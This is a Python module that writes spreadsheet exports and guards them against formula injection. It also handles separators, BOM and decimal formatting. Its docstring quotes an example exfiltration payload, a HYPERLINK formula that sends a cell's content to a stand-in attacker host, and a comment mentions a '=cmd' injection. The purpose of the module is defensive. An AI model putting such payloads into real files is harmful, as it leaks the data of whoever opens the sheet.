"""Files for spreadsheets: every CSV and TSV the app writes goes through here. Pure.

**Formula injection.** Excel, LibreOffice and Google Sheets run a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and some skip a leading tab or carriage return first. A
citizen's name or a problem's description can start with any of them
(``=HYPERLINK("http://evil.example/?d="&A1)``), and a coordinator opening the export would
run it. :func:`safe_cell` puts an apostrophe in front of such a cell: the spreadsheet shows
the text as typed and runs nothing. The full-width forms ``＝ ＋ － ＠`` get it too: some
spreadsheets (and Excel with East Asian input) read them as their ASCII twins.

One rule for every writer, the strict one, and it does not matter which column or who typed
the value. Numbers are not let through: ``-5`` becomes ``'-5`` (the files hold no negative
amounts: amounts are never below zero) and a phone number ``+34 612 345 678`` becomes
``'+34 612 345 678``, which a spreadsheet shows as the text it is; without the apostrophe it
would read it as a formula (the spaces are Excel's intersection operator: ``#NULL!``) or drop
the ``+``. A rule that tried to recognise "plain numbers" is where the weaker rules that
skipped ``=1+…`` came from. :func:`plain_cell` undoes it when the app reads its own file back.

**Shape.** The CSV exports are UTF-8 with a byte order mark (so Excel reads the accents
right), CRLF line ends (RFC 4180), and **semicolon-separated by default**: Excel opens a
``.csv`` with the list separator of the computer's regional settings, which is ``;`` for
Catalan and Spanish (where ``,`` is the decimal separator), so a comma-separated file opens
there as one column. The comma variant (``?separador=coma`` on every export link, see
:func:`delimiter_named`) is for other settings and for programs. The tracker's own list is
tab-separated (``casefiles/tracker.py`` decides its columns; :func:`write_tsv` writes it, made
safe here too).

**Decimal numbers** given as numbers (``Decimal`` or ``float``, never text) are written with
the decimal separator that goes with the file's list separator: ``245,50`` in a semicolon
file (how Catalan and Spanish write it, and what Excel with those settings reads as a number),
``245.50`` in a comma or tab file. No thousands separator: ``1234,50``, which every
spreadsheet reads. Text cells (a report's ``8,3`` already written in the reader's language)
are written as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from collections.abc import Iterator
from decimal import Decimal
from typing import TextIO

#: What a spreadsheet may take for the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: The byte order mark at the start of every CSV export.
BOM = "\ufeff"
SEMICOLON = ";"
COMMA = ","
TAB = "\t"
#: What Excel with Catalan or Spanish regional settings opens in columns.
DEFAULT_DELIMITER = SEMICOLON
#: ``?separador=`` values in export links (Catalan words, as people read them in an address).
DELIMITER_NAMES = {"punt-i-coma": SEMICOLON, "coma": COMMA}


def delimiter_named(name: str | None) -> str:
    """The separator an export link asks for: ``coma`` -> ``,``; anything else the default."""
    return DELIMITER_NAMES.get((name or "").strip().lower(), DEFAULT_DELIMITER)


def _text(value: object, decimal_comma: bool) -> str:
    if value is None:
        return ""
    if isinstance(value, Decimal | float) and not isinstance(value, bool):
        text = f"{value:f}" if isinstance(value, Decimal) else repr(value)
        return text.replace(".", ",") if decimal_comma else text
    return str(value)


def safe_cell(value: object, *, decimal_comma: bool = False) -> str:
    """The value as text that no spreadsheet runs as a formula (a decimal number with a comma
    when ``decimal_comma``)."""
    text = _text(value, decimal_comma)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def plain_cell(text: str) -> str:
    """A cell read back from one of our files: without the apostrophe :func:`safe_cell` added."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def safe_row(cells: Iterable[object], *, decimal_comma: bool = False) -> list[str]:
    return [safe_cell(cell, decimal_comma=decimal_comma) for cell in cells]


def csv_text(
    headers: Iterable[object],
    rows: Iterable[Iterable[object]],
    *,
    delimiter: str = DEFAULT_DELIMITER,
) -> str:
    """A whole CSV file: BOM, the header line, one line per row; every cell made safe."""
    return "".join(csv_chunks(headers, rows, rows_per_chunk=0, delimiter=delimiter))


def csv_chunks(
    headers: Iterable[object],
    rows: Iterable[Iterable[object]],
    *,
    rows_per_chunk: int = 500,
    delimiter: str = DEFAULT_DELIMITER,
) -> Iterator[str]:
    """The same file a piece at a time (``rows_per_chunk`` rows each; 0: one piece), so a
    long export streams without being held in memory. ``delimiter``: ``;`` (the default),
    ``,`` or a tab; decimal numbers take a comma in a semicolon file."""
    if delimiter not in (SEMICOLON, COMMA, TAB):
        raise ValueError(f"unsupported delimiter {delimiter!r}")
    decimal_comma = delimiter == SEMICOLON
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    buffer.write(BOM)
    writer.writerow(safe_row(headers))
    for count, row in enumerate(rows, start=1):
        writer.writerow(safe_row(row, decimal_comma=decimal_comma))
        if rows_per_chunk and count % rows_per_chunk == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def write_tsv(out: TextIO, headers: Iterable[object], rows: Iterable[Iterable[object]]) -> int:
    """A tab-separated file (the tracker's shape: no BOM, ``\n`` line ends) on ``out``, every
    cell made safe; returns how many rows (not counting the header)."""
    writer = csv.writer(out, delimiter="\t", lineterminator="\n")
    # The csv module quotes a cell holding the line terminator ("\n") but not a lone "\r",
    # which spreadsheets take for a new line: "'\r=cmd" would then start a row with "=cmd".
    # A row with a "\r" anywhere is written with every cell quoted.
    quoted = csv.writer(out, delimiter="\t", lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(safe_row(headers))
    count = 0
    for row in rows:
        cells = safe_row(row)
        (quoted if any("\r" in cell for cell in cells) else writer).writerow(cells)
        count += 1
    return count
